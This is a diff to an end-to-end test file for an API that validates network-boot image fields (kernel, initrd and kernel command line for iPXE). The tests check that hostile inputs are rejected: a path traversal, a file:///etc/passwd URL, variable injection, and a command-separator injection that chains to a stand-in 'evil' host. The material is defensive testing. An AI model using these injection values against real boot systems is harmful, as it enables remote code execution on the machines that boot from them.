@@ -38,12 +38,21 @@ describe('image boot fields (e2e)', () => {
     expect(r.body).toMatchObject({ bootKernel: 'http://10.0.0.1:8080/vmlinuz', bootInitrd: 'tftp://10.0.0.1/initrd.img' });
   });
 
+  it("accepts a kernel and initrd named as paths of DLS's boot files root", async () => {
+    const r = await t.http
+      .post('/api/v1/images')
+      .set(as(admin))
+      .send(imageBody({ bootKernel: 'debian/vmlinuz', bootInitrd: 'debian/initrd.img' }))
+      .expect(201);
+    expect(r.body).toMatchObject({ bootKernel: 'debian/vmlinuz', bootInitrd: 'debian/initrd.img' });
+  });
+
   it.each([
-    ['bootKernel', '/srv/vmlinuz', 'not an http, https or tftp URL'],
-    ['bootKernel', 'file:///etc/passwd', 'not an http, https or tftp URL'],
+    ['bootKernel', '/srv/vmlinuz', 'neither an http, https or tftp URL nor a path in the boot files root'],
+    ['bootKernel', 'file:///etc/passwd', 'neither an http, https or tftp URL nor a path in the boot files root'],
     ['bootKernel', 'http://x/${net0/mac}', 'must not contain $, quotes or backslashes'],
     ['bootInitrd', 'http://x/"i"', 'must not contain $, quotes or backslashes'],
-    ['bootInitrd', 'initrd.img', 'not an http, https or tftp URL'],
+    ['bootInitrd', '../initrd.img', 'neither an http, https or tftp URL nor a path in the boot files root'],
     ['bootCmdline', 'quiet || chain http://evil/', 'must not contain the iPXE command separator ||'],
     ['bootCmdline', 'root=${root}', 'must not contain $, quotes or backslashes'],
     ['bootCmdline', 'a\tb', 'only printable ASCII and spaces are allowed'],
